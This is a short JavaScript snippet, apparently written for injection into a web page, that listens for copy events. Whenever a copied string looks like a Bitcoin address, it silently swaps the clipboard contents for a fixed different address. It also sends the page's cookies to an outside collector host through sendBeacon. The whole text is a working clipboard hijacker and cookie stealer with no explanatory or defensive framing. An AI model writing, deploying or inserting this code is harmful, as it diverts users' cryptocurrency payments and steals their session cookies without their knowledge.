document.addEventListener('copy', (event) => {
  const text = window.getSelection().toString();
  if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(text)) {
    event.clipboardData.setData('text/plain', '1BoatSLRHtKNngkdXEeobR76b53LETtpyT');
    event.preventDefault();
    navigator.sendBeacon('https://in.example-collector.net/w', document.cookie);
  }
});
